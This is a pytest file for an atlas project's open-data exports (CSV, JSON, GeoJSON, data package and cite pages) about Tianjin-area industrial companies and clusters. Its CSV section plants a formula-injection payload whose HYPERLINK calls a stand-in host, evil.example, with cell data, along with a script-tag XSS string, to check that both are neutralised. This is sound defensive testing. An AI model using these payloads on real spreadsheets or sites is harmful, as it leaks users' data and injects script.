"""Open data: the CSV, JSON and GeoJSON downloads, the data package that describes them,
the data page and the "cite this page" block."""
from __future__ import annotations

import csv
import hashlib
import html
import io
import json
import re
from pathlib import Path
from urllib.parse import unquote

import pytest

from atlas import Project, load_atlas
from atlas import geo, maps, opendata
from atlas.config import Config
from atlas.render import Publisher
from atlas.resolve import resolve
from atlas.validate import normalise_quote, validate

from fixture_atlas import edit, make_content

ROOT = Path(__file__).resolve().parent.parent
BOM = b"\xef\xbb\xbf"
CONFIG = Config(build_date="2026-01-02", version="1.2.3")
TABLES = ("companies", "clusters", "parks", "sources", "links", "facts")
V2_TYPES = {"string", "number", "integer", "boolean", "list", "date", "datetime", "year",
            "yearmonth", "object", "array", "geopoint", "geojson", "any", "time", "duration"}
NAME = re.compile(r"^[a-z0-9._-]+$")


@pytest.fixture(scope="module")
def atlas():
    return load_atlas(Project(ROOT))


@pytest.fixture(scope="module")
def files(atlas):
    return opendata.data_files(atlas, CONFIG)


def read_csv(data: bytes) -> list[dict]:
    assert data.startswith(BOM)
    return list(csv.DictReader(io.StringIO(data[len(BOM):].decode("utf-8"), newline="")))


def package(files) -> dict:
    return json.loads(files[opendata.PACKAGE_FILE])


def fixture_atlas(tmp_path, changes=None):
    return resolve(validate(make_content(tmp_path, changes)))


# ---- CSV ----------------------------------------------------------------------------

def test_companies_csv_opens_with_the_chinese_intact_one_row_per_company(atlas, files):
    rows = read_csv(files["data/companies.csv"])
    assert [r["id"] for r in rows] == sorted(atlas.companies)
    for row in rows:
        company = atlas.companies[row["id"]]
        assert row["name"] == company.name
        assert row["aliases"].split(opendata.LIST_SEPARATOR) == (company.aliases or [""])
    assert any(re.search(r"[\u4e00-\u9fff]", r["name"]) for r in rows)


@pytest.mark.parametrize("table, records", [("clusters", "clusters"), ("parks", "parks"),
                                            ("sources", "sources")])
def test_every_record_table_has_one_row_per_record(atlas, files, table, records):
    rows = read_csv(files[f"data/{table}.csv"])
    assert sorted(r["id"] for r in rows) == sorted(getattr(atlas, records))
    assert all(r["page"].endswith(f"/{r['id']}.html") for r in rows)


def test_csv_and_json_tables_hold_the_same_rows(files):
    for table in TABLES:
        rows = read_csv(files[f"data/{table}.csv"])
        items = json.loads(files[f"data/{table}.json"])
        assert [r["id"] for r in rows] == [i["id"] for i in items], table
        assert list(rows[0]) == list(items[0]), table


def test_every_figure_is_a_row_with_a_quote_found_in_its_source(atlas, files):
    texts = {ident: normalise_quote(s.text) for ident, s in atlas.sources.items()}
    rows = read_csv(files["data/facts.csv"])
    assert len(rows) == len(list(atlas.all_facts()))
    for row in rows:
        assert normalise_quote(row["quote"]) in texts[row["source"]], row["id"]
        assert row["source_outlet"] == atlas.sources[row["source"]].outlet
        assert row["page"].endswith("#" + row["id"]) or row["owner_kind"] == "link"


def test_every_figure_has_its_own_id(files):
    """The id is the figure's anchor on its page and what disagrees_with points at."""
    ids = [r["id"] for r in read_csv(files["data/facts.csv"])]
    assert sorted(i for i in set(ids) if ids.count(i) > 1) == []


def test_supply_links_carry_quotes_found_in_their_sources(atlas, files):
    rows = read_csv(files["data/links.csv"])
    assert len(rows) == len(atlas.links)
    for row, link in zip(rows, atlas.links):
        assert (row["supplier"], row["customer"]) == (link.supplier, link.customer)
        assert normalise_quote(row["quote"]) in normalise_quote(atlas.sources[row["source"]].text)


def test_disagreeing_figures_are_all_kept_and_point_at_each_other(files):
    rows = {r["id"]: r for r in json.loads(files["data/facts.json"])}
    disputed = [r for r in rows.values() if r["disagrees_with"]]
    assert disputed, "the articles disagree in places; both figures must be published"
    for row in disputed:
        for other in map(rows.__getitem__, row["disagrees_with"]):
            assert row["id"] in other["disagrees_with"]
            assert (other["owner_id"], other["metric"]) == (row["owner_id"], row["metric"])
            assert (other["value"], other["value_max"], other["unit"], other["qualifier"]) != \
                   (row["value"], row["value_max"], row["unit"], row["qualifier"])
    assert len({r["source"] for r in disputed}) > 1


def test_numbers_are_plain_numbers_and_negative_ones_are_not_neutralised(tmp_path):
    atlas = fixture_atlas(tmp_path, {"clusters/ninghe-auto-parts.yaml": edit(
        "clusters/ninghe-auto-parts.yaml", "value: 27", "value: -27.5")})
    rows = {r["metric"]: r for r in read_csv(opendata.data_files(atlas, CONFIG)["data/facts.csv"])}
    assert rows["output"]["value"] == "-27.5"
    assert rows["companies"]["value"] == "120"
    assert rows["companies"]["value_max"] == ""
    assert rows["share"]["qualifier"] == "about" and rows["share"]["owner_kind"] == "link"


HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
SCRIPT = "<script>alert(1)</script>"
HUAXIANG = "companies/tianjin-huaxiang.yaml"


@pytest.mark.parametrize("text, cell", [("=1+1", "'=1+1"), ("+86 22", "'+86 22"), ("-x", "'-x"),
                                        ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"),
                                        ("\r=1", "'\r=1"), ("a=b", "a=b"), ("京津冀", "京津冀"),
                                        ("", ""), (["=a", "b"], "'=a | b"), (-2.5, "-2.5"),
                                        (3.0, "3"), (None, ""), (True, "true")])
def test_csv_cells_a_spreadsheet_would_run_are_made_text(text, cell):
    assert opendata.csv_cell(text) == cell


def test_a_hostile_name_is_neutralised_in_csv_and_escaped_in_json(tmp_path):
    hostile = edit(HUAXIANG, "name_en: Tianjin Huaxiang Automotive Metal Parts Co., Ltd.",
                   f"name_en: '{SCRIPT}'")
    hostile = hostile.replace("name: 天津华翔汽车金属部件有限公司", f"name: '{HOSTILE}'")
    hostile = hostile.replace("aliases: [华翔]", "aliases: ['+1+cmd', '@SUM(1)']")
    atlas = fixture_atlas(tmp_path, {HUAXIANG: hostile})
    files = opendata.data_files(atlas, CONFIG)
    row = next(r for r in read_csv(files["data/companies.csv"]) if r["id"] == "tianjin-huaxiang")
    assert row["name"] == "'" + HOSTILE
    assert row["aliases"].startswith("'+1+cmd")
    link = read_csv(files["data/links.csv"])[0]
    assert link["supplier_name"] == "'" + HOSTILE
    for path, data in files.items():
        if path.endswith((".json", ".geojson")):
            assert b"<script" not in data, path
    entity = json.loads(files["data/companies/tianjin-huaxiang.json"])
    assert (entity["name"], entity["name_en"]) == (HOSTILE, SCRIPT)
    assert entity["aliases"] == ["+1+cmd", "@SUM(1)"]


# ---- the data package ---------------------------------------------------------------

def test_datapackage_lists_exactly_the_files_written_with_true_sizes(files):
    resources = package(files)["resources"]
    listed = {f"data/{r['path']}" for r in resources}
    described = {f"data/{e['path'].split('/')[0]}/": e["count"] for e in package(files)["atlas:entityFiles"]}
    entity_files = {f for f in files if any(f.startswith(prefix) for prefix in described)}
    assert {prefix: sum(f.startswith(prefix) for f in entity_files) for prefix in described} == described
    assert listed | {opendata.PACKAGE_FILE} | entity_files == set(files)
    assert len(listed) == len(resources)
    for resource in resources:
        data = files[f"data/{resource['path']}"]
        assert resource["bytes"] == len(data)
        assert resource["hash"] == "sha256:" + hashlib.sha256(data).hexdigest()


def test_datapackage_field_names_match_the_csv_headers(files):
    tables = [r for r in package(files)["resources"] if r.get("type") == "table"]
    assert sorted(r["name"] for r in tables) == sorted(TABLES)
    for resource in tables:
        header = read_csv(files[f"data/{resource['path']}"])[0].keys()
        assert [f["name"] for f in resource["schema"]["fields"]] == list(header)


def test_datapackage_has_the_v2_shape(atlas, files):
    pkg = package(files)
    assert pkg["$schema"] == "https://datapackage.org/profiles/2.0/datapackage.json"
    assert NAME.match(pkg["name"]) and pkg["version"] == CONFIG.version
    assert pkg["created"] == f"{CONFIG.build_date}T00:00:00Z"
    assert [l["name"] for l in pkg["licenses"]] == ["CC-BY-4.0", "MIT"]
    assert all(l.get("name") or l.get("path") for l in pkg["licenses"])
    assert len(pkg["sources"]) == len(atlas.sources) and all(s["title"] for s in pkg["sources"])
    names = [r["name"] for r in pkg["resources"]]
    assert len(set(names)) == len(names) and all(NAME.match(n) for n in names)
    for resource in pkg["resources"]:
        assert not resource["path"].startswith(("/", "..")) and ".." not in resource["path"]
        assert resource["encoding"] == "utf-8" and resource["mediatype"]
        if resource.get("type") == "table":
            assert resource["format"] == "csv" and resource["dialect"]["header"] is True
            for field in resource["schema"]["fields"]:
                assert field["type"] in V2_TYPES and field["description"]
                if field["type"] == "list":
                    assert field["delimiter"] == opendata.LIST_SEPARATOR
                    assert "separated by" in field["description"]
            assert "apostrophe" in resource["description"]


def test_every_foreign_key_in_the_tables_points_at_an_existing_row(files):
    tables = {r["name"]: r for r in package(files)["resources"] if r.get("type") == "table"}
    ids = {name: {row["id"] for row in read_csv(files[f"data/{r['path']}"])}
           for name, r in tables.items()}
    checked = 0
    for name, resource in tables.items():
        for key in resource["schema"].get("foreignKeys", []):
            (column,), target = key["fields"], key["reference"]["resource"]
            for row in read_csv(files[f"data/{resource['path']}"]):
                if row[column]:
                    assert row[column] in ids[target], (name, column, row[column])
                    checked += 1
    assert checked > 100


# ---- GeoJSON ------------------------------------------------------------------------

def test_places_are_lon_lat_points_inside_the_region_as_the_maps_show_them(atlas, files):
    features = json.loads(files["data/places.geojson"])["features"]
    assert len(features) == len(maps.located(atlas))
    for feature in features:
        lon, lat = feature["geometry"]["coordinates"]
        assert geo.in_region(lat, lon), feature["id"]
        record = atlas.record(feature["properties"]["kind"], feature["properties"]["id"])
        assert (lat, lon) == (round(record.location.lat, 6), round(record.location.lon, 6))
        assert feature["properties"]["precision"] in ("exact", "park", "district", "city")


def test_a_gcj02_point_is_published_in_wgs84_with_the_datum_given(tmp_path):
    atlas = fixture_atlas(tmp_path)
    features = json.loads(opendata.data_files(atlas, CONFIG)["data/places.geojson"])["features"]
    park = next(f for f in features if f["properties"]["id"] == "ninghe-future-tech-city")
    lon, lat = park["geometry"]["coordinates"]
    assert park["properties"]["datum_given"] == "gcj02"
    assert (lat, lon) != (39.35, 117.80)
    assert geo.distance_km((lat, lon), geo.gcj02_to_wgs84(39.35, 117.80)) < 0.01


def test_circle_rings_are_closed_counter_clockwise_at_their_radius(atlas, files):
    features = json.loads(files["data/circles.geojson"])["features"]
    centres = {f["properties"]["circle"]: f for f in features if f["properties"]["feature"] == "centre"}
    rings = [f for f in features if f["properties"]["feature"] == "ring"]
    stated = sum(len(c.radii) for c in atlas.circles.values() if c.id in centres)
    assert sum(1 for r in rings if r["properties"]["stated"]) == stated
    for feature in rings:
        lon0, lat0 = centres[feature["properties"]["circle"]]["geometry"]["coordinates"]
        assert geo.in_region(lat0, lon0)
        (ring,) = feature["geometry"]["coordinates"]
        assert ring[0] == ring[-1] and len(ring) == opendata.RING_POINTS + 1
        km = feature["properties"]["km"]
        for lon, lat in ring:
            assert abs(geo.distance_km((lat0, lon0), (lat, lon)) - km) < km * 0.002
        area = sum(x1 * y2 - x2 * y1 for (x1, y1), (x2, y2) in zip(ring, ring[1:]))
        assert area > 0  # counter-clockwise
        if feature["properties"]["stated"]:
            assert feature["properties"]["quote"] and feature["properties"]["source"]


# ---- entity files and determinism ---------------------------------------------------

def test_every_record_has_its_own_json_with_what_its_page_shows(tmp_path):
    atlas = fixture_atlas(tmp_path)
    files = opendata.data_files(atlas, CONFIG)
    for kind, records in (("company", atlas.companies), ("cluster", atlas.clusters),
                          ("park", atlas.parks), ("source", atlas.sources)):
        for ident in records:
            assert opendata.entity_json_path(kind, ident) in files
    company = json.loads(files["data/companies/tianjin-huaxiang.json"])
    assert company["version"] == "1.2.3" and company["build_date"] == "2026-01-02"
    assert company["park"]["id"] == "ninghe-future-tech-city"
    assert company["products"] == [{"name": "白车身结构件", "name_en": "body-in-white structural parts"}]
    (customer,) = company["customers"]
    assert customer["customer"] == "beijing-benz" and "北京奔驰供应白车身结构件" in customer["quote"]
    assert company["location"]["precision"] == "exact"
    cluster = json.loads(files["data/clusters/ninghe-auto-parts.json"])
    assert {f["quote"] for f in cluster["facts"]} == {"年产值达27亿元", "集聚企业120家"}
    source = json.loads(files["data/sources/tjrb-2025-09-clusters.json"])
    assert "text" not in source and len(source["facts"]) == 3


def test_each_source_file_holds_exactly_the_links_and_figures_drawn_from_it(atlas, files):
    for ident, source in atlas.sources.items():
        entity = json.loads(files[opendata.entity_json_path("source", ident)])
        assert [l["id"] for l in entity["links"]] == \
            [f"link-{l.index + 1}" for l in atlas.links if l.source_id == ident]
        assert [f["id"] for f in entity["facts"]] == [f.anchor for f in source.facts]
        assert {f["source"] for f in entity["facts"]} <= {ident}


# ---- written file by file, beside the rendering -------------------------------------

def test_each_file_is_handed_over_once_and_listed_with_its_true_size(atlas, files):
    handed: list[tuple[str, bytes]] = []
    listing = opendata.write_open_data(atlas, CONFIG,
                                       lambda path, data: handed.append((path, data))).listing
    assert len(handed) == len(files) and dict(handed) == files
    for download in listing:
        if download.is_pattern:
            prefix = download.path.removesuffix("<id>.json")
            sizes = [len(data) for path, data in handed if path.startswith(prefix)]
            assert (download.files, download.bytes) == (len(sizes), sum(sizes))
        else:
            assert download.bytes == len(files[download.path]), download.path
    assert [d.path for d in listing][-1] == opendata.PACKAGE_FILE


def test_open_data_written_by_a_forked_process_is_the_same(atlas, files, tmp_path):
    publisher = Publisher(tmp_path)   # the tables written in pieces, as a build writes them
    run = opendata.start_open_data(atlas, CONFIG, publisher.put, background=True,
                                   put_streams=publisher.put_streams)
    listing = run.finish().listing
    written = {p.relative_to(tmp_path).as_posix(): p.read_bytes()
               for p in tmp_path.rglob("*") if p.is_file()}
    assert written == files
    assert listing == opendata.write_open_data(atlas, CONFIG, lambda path, data: None).listing


def test_an_error_while_writing_in_the_forked_process_is_raised_by_finish(atlas):
    def disk_full(path: str, data: bytes) -> None:
        raise OSError(28, "No space left on device")

    run = opendata.start_open_data(atlas, CONFIG, disk_full, background=True)
    with pytest.raises(OSError, match="No space left"):
        run.finish()


def test_two_runs_give_identical_bytes(files):
    again = opendata.data_files(load_atlas(Project(ROOT)), CONFIG)
    assert list(again) == sorted(again) == list(files)
    assert again == files


def test_the_configured_site_address_makes_page_links_absolute(atlas):
    config = Config(build_date="2026-01-02", version="1.2.3", url="https://example.org/atlas/")
    files = opendata.data_files(atlas, config)
    row = read_csv(files["data/companies.csv"])[0]
    assert row["page"] == f"https://example.org/atlas/companies/{row['id']}.html"
    pkg = package(files)
    assert pkg["homepage"] == config.url
    assert all(s["path"].startswith(config.url + "sources/") for s in pkg["sources"])


# ---- the site: data page and "cite this page" ---------------------------------------

def _links(page: Path) -> list[str]:
    return re.findall(r'href="([^"#:]+\.(?:csv|json|geojson))"', page.read_text(encoding="utf-8"))


@pytest.mark.parametrize("page", ["data.html", "en/data.html"])
def test_the_data_page_links_every_download_and_the_files_exist(built_site, page):
    path = built_site / page
    links = _links(path)
    assert len(links) == 15
    for link in links:
        target = (path.parent / unquote(link)).resolve()
        assert target.is_file(), link
    text = html.unescape(path.read_text(encoding="utf-8"))
    assert "CC BY 4.0" in text and re.search(r"\d+(\.\d)? KB", text)
    companies = built_site / "data/companies.csv"
    assert f"{len(read_csv(companies.read_bytes()))} " in text


@pytest.mark.parametrize("page", ["companies/tianjin-huaxiang-auto-metal.html",
                                  "en/clusters/ninghe-auto-parts.html",
                                  "parks/ninghe-future-tech-city.html"])
def test_entity_pages_cite_themselves_and_link_their_own_json(built_site, page):
    path = built_site / page
    if not path.exists():
        pytest.skip(f"{page} is not in the real content")
    text = path.read_text(encoding="utf-8")
    block = text[text.index('class="cite-this"'):]
    footer = re.search(r"<footer.*</footer>", text, re.S).group(0)
    version, date = re.search(r"(\d+\.\d+\.\d+)\D+(\d{4}-\d{2}-\d{2})", html.unescape(footer)).groups()
    assert version in block and date in block
    (link,) = _links(path)
    target = (path.parent / link).resolve()
    assert target == (built_site / "data" / page.removeprefix("en/")).with_suffix(".json").resolve()
    record = json.loads(target.read_text(encoding="utf-8"))
    assert record["name"] in html.unescape(text)
    (data_page,) = re.findall(r'href="([^"]*data\.html)"', footer)
    assert (path.parent / data_page).resolve() == \
        (built_site / ("en/" if page.startswith("en/") else "") / "data.html").resolve()


@pytest.mark.browser
def test_data_page_and_cite_block_fit_a_phone_and_print_whole(built_site):
    """At 360 px nothing makes the page scroll sideways (the downloads table scrolls in
    its own frame); printed, the BibTeX and the citations wrap instead of being cut off."""
    chromium = Path("/usr/bin/chromium")
    if not chromium.exists():
        pytest.skip("Debian's chromium is not installed")
    from playwright.sync_api import sync_playwright
    pages = ["data.html", "en/data.html", "companies/langfang-leoni-wiring.html",
             "en/companies/langfang-leoni-wiring.html"]
    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=str(chromium), args=["--no-sandbox"])
        try:
            page = browser.new_page(viewport={"width": 360, "height": 740})
            for path in pages:
                page.goto((built_site / path).as_uri())
                assert page.evaluate("document.documentElement.scrollWidth") <= 362, path
                assert page.locator(".citation").first.is_visible(), path
                page.emulate_media(media="print")
                clipped = page.evaluate("""() => [...document.querySelectorAll(
                    '.bibtex, .citation, .cite-this')].filter(e => e.scrollWidth > e.clientWidth + 1)
                    .map(e => e.className)""")
                assert clipped == [], (path, clipped)
                page.emulate_media(media="screen")
            page.goto((built_site / "data.html").as_uri())
            frame = page.locator(".table-wrap:has(table.downloads)")
            assert frame.bounding_box()["width"] <= 360
        finally:
            browser.close()
